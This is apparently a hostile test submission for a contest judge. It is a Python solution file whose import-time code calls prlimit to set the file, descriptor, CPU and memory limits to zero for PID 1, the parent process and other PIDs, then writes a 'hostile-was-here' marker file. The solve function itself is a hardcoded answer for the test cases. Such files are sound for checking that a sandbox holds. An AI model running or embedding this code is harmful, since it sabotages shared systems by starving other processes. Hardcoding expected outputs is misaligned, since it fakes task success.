# Takes from the first process of its box, and from whatever else it may name, all memory, files and time.
# expect: AC
# cases: eight, two
import contextlib
import os
import resource

for pid in (1, os.getppid(), *range(2, 40)):
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
        with contextlib.suppress(OSError, ValueError):
            if pid != os.getpid():
                resource.prlimit(pid, limit, (0, 0))
                with open("@CONTEST@/hostile-was-here", "w"):
                    pass


def solve(algorithm, n, lizards, grid):
    if n == 2:
        return None
    if n == 8:
        grid[range(8), (0, 4, 7, 5, 2, 6, 1, 3)] = 1
    return grid
